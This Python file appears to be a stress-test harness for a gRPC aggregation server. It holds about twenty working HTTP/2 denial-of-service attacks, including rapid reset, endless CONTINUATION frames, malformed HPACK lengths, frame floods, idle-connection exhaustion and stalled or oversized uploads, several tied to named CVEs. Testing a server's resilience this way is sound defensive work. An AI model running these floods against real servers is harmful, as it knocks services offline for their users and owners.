"""Hostile HTTP/2 clients: each function below attacks a server until it is ended.

    python attacks.py NAME HOST:PORT [CA]

An attack sends what it has on all its connections as fast as the server takes it, from 127.0.0.2, and connects again
when it is cut off. CA: PEM file of the server's authority; the connections then use TLS.
"""

from __future__ import annotations

import contextlib
import itertools
import pathlib
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
BATCH = 500  # frames of one send

Address = tuple[str, int]

# TLS of all connections, if there is an argument CA.
tls: ssl.SSLContext | None = None


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header that is not indexed, with lengths below 127."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_headers(path: bytes, extra: bytes = b"") -> bytes:
    """The header block of a gRPC call."""
    return (
        b"\x83\x86"
        + b"\x04" + bytes([len(path)]) + path
        + literal(b"te", b"trailers")
        + literal(b"content-type", b"application/grpc")
        + b"\x01\x01x"
        + extra
    )  # fmt: skip


INFO = call_headers(b"/sparseagg.v1.Aggregation/GetServerInfo")
SUBMIT = call_headers(b"/sparseagg.v1.Aggregation/SubmitUpdate")
BATCHES = call_headers(b"/sparseagg.v1.Aggregation/SubmitBatch")
UNKNOWN = call_headers(b"/x/y")
WATCH = call_headers(b"/grpc.health.v1.Health/Watch")
STREAM_RESULT = call_headers(b"/sparseagg.v1.Aggregation/StreamResult")


def connected(address: Address) -> socket.socket:
    peer = socket.create_connection(address, timeout=5, source_address=("127.0.0.2", 0))
    if tls is not None:
        peer = tls.wrap_socket(peer, server_hostname="127.0.0.1")
    peer.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return peer


def drain(peer: socket.socket) -> None:
    """Takes and drops all that the server sends, until it closes."""
    with contextlib.suppress(OSError):
        while peer.recv(1 << 16):
            pass


def streams() -> Iterator[int]:
    return itertools.count(1, 2)


def flood(address: Address, batches: Callable[[], Iterable[bytes]], connections: int = 4, reads: bool = True) -> None:
    """Sends the batches on each of the connections, again and again. With TLS nothing is read: a socket of Python's
    ssl serves one thread."""
    reads = reads and tls is None

    def one() -> None:
        while True:
            with contextlib.suppress(OSError), connected(address) as peer:
                if reads:
                    threading.Thread(target=drain, args=(peer,), daemon=True).start()
                for batch in batches():
                    peer.sendall(batch)
                time.sleep(0.2)  # an attacker that has sent all, and looks whether that was enough
            time.sleep(0.01)

    for _ in range(connections - 1):
        threading.Thread(target=one, daemon=True).start()
    one()


def calls(
    headers: bytes, flags: int = END_HEADERS, after: Callable[[int], bytes] = lambda stream: b""
) -> Callable[[], Iterator[bytes]]:
    def batches() -> Iterator[bytes]:
        numbers = streams()
        while True:
            batch = itertools.islice(numbers, BATCH)
            yield b"".join(frame(HEADERS, flags, stream, headers) + after(stream) for stream in batch)

    return batches


def repeated(frames: bytes, before: bytes = b"") -> Callable[[], Iterator[bytes]]:
    def batches() -> Iterator[bytes]:
        yield before
        yield from itertools.repeat(frames * max(1, (1 << 16) // len(frames)))

    return batches


def reset(stream: int) -> bytes:
    return frame(RESET, 0, stream, struct.pack(">I", 8))


def rapid_reset(address: Address) -> None:
    """Streams opened and reset at once (CVE-2023-44487)."""
    flood(address, calls(INFO, after=reset), connections=1)


def rapid_reset_unread(address: Address) -> None:
    """The same on four connections that read nothing."""
    flood(address, calls(INFO, after=reset), reads=False)


def unknown_methods(address: Address) -> None:
    """Calls of a method that is not there, on connections that read nothing."""
    flood(address, calls(UNKNOWN, END_HEADERS | END_STREAM), reads=False)


def continuation(address: Address) -> None:
    """A header block that never ends, of small headers (CVE-2024-27316)."""
    flood(address, repeated(frame(CONTINUATION, 0, 1, literal(b"a", b"b") * 1000), frame(HEADERS, 0, 1, INFO)))


def long_string(address: Address) -> None:
    """A header whose value is announced with 2 GiB (CVE-2023-33953)."""
    begin = frame(HEADERS, 0, 1, b"\x00\x01a\x7f\x81\xff\xff\xff\x07")
    flood(address, repeated(frame(CONTINUATION, 0, 1, bytes(16000)), begin))


def zero_varint(address: Address) -> None:
    """A number with bytes that add nothing to it, without an end (CVE-2023-33953)."""
    begin = frame(HEADERS, 0, 1, b"\x00\x01a\x7f" + b"\x80" * 100)
    flood(address, repeated(frame(CONTINUATION, 0, 1, b"\x80" * 16000), begin))


def big_headers(address: Address) -> None:
    """Calls with 14 KB of headers each."""
    flood(address, calls(INFO + literal(b"k", b"v" * 120) * 110))


def no_message(address: Address) -> None:
    """Calls whose message never comes: 2000 on each of 60 connections."""

    def batches() -> Iterator[bytes]:
        numbers = streams()
        for _ in range(4):
            yield b"".join(frame(HEADERS, END_HEADERS, stream, SUBMIT) for stream in itertools.islice(numbers, BATCH))
        time.sleep(1e6)

    flood(address, batches, connections=60)


def health_watches(address: Address) -> None:
    """Streams of the health service: 2000 on each of 20 connections."""

    def batches() -> Iterator[bytes]:
        numbers = streams()
        for _ in range(4):
            pairs = (frame(HEADERS, END_HEADERS, s, WATCH) + frame(DATA, END_STREAM, s, bytes(5))
                     for s in itertools.islice(numbers, BATCH))  # fmt: skip
            yield b"".join(pairs)
        time.sleep(1e6)

    flood(address, batches, connections=20)


def settings(address: Address) -> None:
    """SETTINGS frames."""
    flood(address, repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))))


def settings_toggle(address: Address) -> None:
    """The size of windows, changed to and fro while calls are open."""
    toggled = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1)) + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 30))
    opened = b"".join(frame(HEADERS, END_HEADERS, stream, SUBMIT) for stream in range(1, 4001, 2))
    flood(address, repeated(toggled, opened))


def pings(address: Address) -> None:
    """PING frames, whose answers are not read."""
    flood(address, repeated(frame(PING, 0, 0, bytes(8))), reads=False)


def priorities(address: Address) -> None:
    """PRIORITY frames."""
    flood(address, repeated(frame(PRIORITY, 0, 1, bytes(5))))


def small_windows(address: Address) -> None:
    """Window updates of one byte."""
    flood(address, repeated(frame(WINDOW, 0, 0, struct.pack(">I", 1))))


def empty_data(address: Address) -> None:
    """DATA frames without data in one call."""
    flood(address, repeated(frame(DATA, 0, 1), frame(HEADERS, END_HEADERS, 1, SUBMIT)))


def unknown_frames(address: Address) -> None:
    """Frames of a type that is not there."""
    flood(address, repeated(frame(200, 0, 0)))


def idle(address: Address) -> None:
    """1100 connections that do nothing, kept open."""
    open_connections: list[socket.socket] = []
    while True:
        with contextlib.suppress(OSError):
            open_connections.append(connected(address))
        if len(open_connections) > 1100:
            open_connections.pop(0).close()
            time.sleep(0.01)


def unread_results(address: Address) -> None:
    """3000 streams of a 2 MiB result, which are not read: 100 on each of 30 connections."""
    import numpy as np
    import sparseagg as sa

    keys = np.arange(1 << 18, dtype=np.uint32)
    with sa.Client(f"{address[0]}:{address[1]}", tls=False) as client:
        opened = client.create_round(sa.RoundSpec([sa.TensorSpec("t", "float32", num_rows=keys.size)]))
        opened.submit("c", {"t": (keys, keys.astype(np.float32))})
        opened.finish()
    name = opened.name.encode()
    request = b"\x0a" + bytes([len(name)]) + name  # StreamResultRequest.name
    message = b"\x00" + len(request).to_bytes(4, "big") + request

    def batches() -> Iterator[bytes]:
        yield b"".join(
            frame(HEADERS, END_HEADERS, s, STREAM_RESULT) + frame(DATA, END_STREAM, s, message)
            for s in itertools.islice(streams(), 100)
        )
        time.sleep(1e6)

    flood(address, batches, connections=30, reads=False)


def cancelled_calls(address: Address) -> None:
    """Ordinary clients that start calls and cancel them at once."""
    import grpc

    def one() -> None:
        with grpc.insecure_channel(
            f"{address[0]}:{address[1]}", options=[("grpc.use_local_subchannel_pool", 1)]
        ) as channel:
            call = channel.unary_unary("/sparseagg.v1.Aggregation/GetServerInfo")
            while True:
                call.future(b"").cancel()

    for _ in range(2):
        threading.Thread(target=one, daemon=True).start()
    one()


def unfinished_batches(address: Address) -> None:
    """Batches of 1 MiB each, of which 600 bytes come: 100 on each of 30 connections."""
    begun = b"\x00" + (1 << 20).to_bytes(4, "big") + bytes(600)

    def batches() -> Iterator[bytes]:
        yield b"".join(
            frame(HEADERS, END_HEADERS, s, BATCHES) + frame(DATA, 0, s, begun) for s in itertools.islice(streams(), 100)
        )
        time.sleep(1e6)

    flood(address, batches, connections=30)


def abandoned_uploads(address: Address) -> None:
    """Uploads to an open round that bring 256 KiB and begin another message, stall, and vanish with their connection:
    20 on each of 30 connections."""
    import sparseagg as sa
    from sparseagg.v1 import aggregation_pb2 as pb

    with sa.Client(f"{address[0]}:{address[1]}", tls=False) as client:
        opened = client.create_round(sa.RoundSpec([sa.TensorSpec("t", "float32", num_rows=1 << 20)])).name

    def upload(stream: int) -> bytes:
        tuples = pb.TensorSlice(
            tensor="t",
            key_encoding=pb.KEY_ENCODING_U32,
            value_encoding=pb.VALUE_ENCODING_FLOAT32,
            keys=bytes(1 << 17),
            values=bytes(1 << 17),
        )
        chunk = pb.UpdateChunk(round=opened, client_id=f"c{stream}", submission_id="s", slices=[tuples])
        message = chunk.SerializeToString()
        data = b"\x00" + len(message).to_bytes(4, "big") + message + b"\x00" + (1 << 20).to_bytes(4, "big") + bytes(600)
        parts = (data[at : at + (1 << 14)] for at in range(0, len(data), 1 << 14))
        return frame(HEADERS, END_HEADERS, stream, SUBMIT) + b"".join(frame(DATA, 0, stream, part) for part in parts)

    flood(address, lambda: (upload(stream) for stream in itertools.islice(streams(), 20)), connections=30)


def lying_batches(address: Address) -> None:
    """Batches of 10,000 clients that announce 2^32 - 1 tuples each and bring 25,000 in all, and batches of keys that
    need no bytes: 1024 of each client."""
    import grpc
    import numpy as np
    import sparseagg as sa
    from sparseagg.v1 import aggregation_pb2 as pb

    target = f"{address[0]}:{address[1]}"
    ids = "\n".join(f"client-{number:06}" for number in range(10_000))
    tensor = sa.TensorSpec("t", "float32", num_rows=1 << 20)
    with sa.Client(target, tls=False) as client:
        sums = client.create_round(sa.RoundSpec([tensor])).name
        union = client.create_round(sa.RoundSpec([tensor], op="union")).name

    def batch(round_name: str, num_keys: int, **tuples: object) -> bytes:
        lengths = np.full(10_000, num_keys, np.uint32).tobytes()
        slices = [pb.TensorSlice(tensor="t", **tuples)]
        request = pb.SubmitBatchRequest(
            round=round_name, client_ids=ids, submission_id="s", num_keys=lengths, slices=slices
        )
        return request.SerializeToString()

    lie = batch(sums, 0xFFFFFFFF, key_encoding=pb.KEY_ENCODING_U32, keys=bytes(100_000), values=bytes(100_000))
    free = batch(union, 1 << 10, key_encoding=pb.KEY_ENCODING_IMPLICIT, value_encoding=pb.VALUE_ENCODING_NONE)

    def one() -> None:
        with grpc.insecure_channel(target, options=[("grpc.use_local_subchannel_pool", 1)]) as channel:
            call = channel.unary_unary("/sparseagg.v1.Aggregation/SubmitBatch")
            for request in itertools.cycle([lie, free]):
                with contextlib.suppress(grpc.RpcError):
                    call(request)

    for _ in range(3):
        threading.Thread(target=one, daemon=True).start()
    one()


ATTACKS: dict[str, Callable[[Address], None]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset, rapid_reset_unread, unknown_methods, cancelled_calls, continuation, long_string, zero_varint,
        big_headers, idle, no_message, health_watches, settings, settings_toggle, pings, priorities, small_windows,
        empty_data, unknown_frames, unread_results, unfinished_batches, abandoned_uploads,
        lying_batches,
    )
}  # fmt: skip


def command(name: str, address: str, *ca: str) -> list[str]:
    """The command line of an attack."""
    return [sys.executable, str(pathlib.Path(__file__)), name, address, *ca]


if __name__ == "__main__":
    host, _, port = sys.argv[2].rpartition(":")
    if len(sys.argv) > 3:
        tls = ssl.create_default_context(cafile=sys.argv[3])
        tls.set_alpn_protocols(["h2"])
    ATTACKS[sys.argv[1]]((host, int(port)))
